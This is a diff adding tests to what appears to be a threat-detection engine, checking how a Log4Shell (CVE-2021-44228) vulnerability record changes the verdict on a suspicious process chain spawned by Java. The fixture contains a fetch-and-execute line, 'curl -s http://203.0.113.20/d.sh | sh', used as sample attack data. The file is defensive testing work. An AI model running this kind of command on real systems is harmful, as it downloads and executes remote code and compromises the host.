@@ -113,3 +113,40 @@ describe('a download', () => {
     );
   });
 });
+
+describe('a flaw that explains what was seen', () => {
+  const LOG4SHELL: Fact = {
+    kind: 'vulnerability',
+    cve: 'CVE-2021-44228',
+    cvss: 10,
+    cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H',
+    severity: 'critical',
+    packageName: 'log4j-core',
+    packageType: 'jar',
+    packageVersion: '2.14.1',
+    exploitInTheWild: true,
+    exploitPublic: true,
+    remote: true,
+  };
+  const chain = (path: string): Fact[] => [
+    { kind: 'process', pid: 1, path, commandLine: `${path} -jar app.jar` },
+    {
+      kind: 'process',
+      pid: 50,
+      parentPid: 1,
+      path: '/bin/sh',
+      commandLine: 'sh -c curl -s http://203.0.113.20/d.sh | sh',
+    },
+    { kind: 'process', pid: 51, parentPid: 50, path: '/tmp/d', commandLine: '/tmp/d' },
+  ];
+
+  it('makes several signs below the attacked service malicious', () => {
+    expect(analyse('unexpectedProcess', ...chain('/usr/bin/java'), LOG4SHELL).verdict).toBe('malicious');
+  });
+
+  it('is needed for that, and so are the signs: a build also runs what it fetched', () => {
+    expect(analyse('unexpectedProcess', ...chain('/usr/bin/java')).verdict).toBe('suspicious');
+    expect(analyse('unexpectedProcess', ...chain('/usr/local/bin/node'), LOG4SHELL).verdict).toBe('suspicious');
+    expect(analyse('unexpectedProcess', ...chain('/usr/bin/java').slice(0, 1), LOG4SHELL).verdict).toBe('suspicious');
+  });
+});
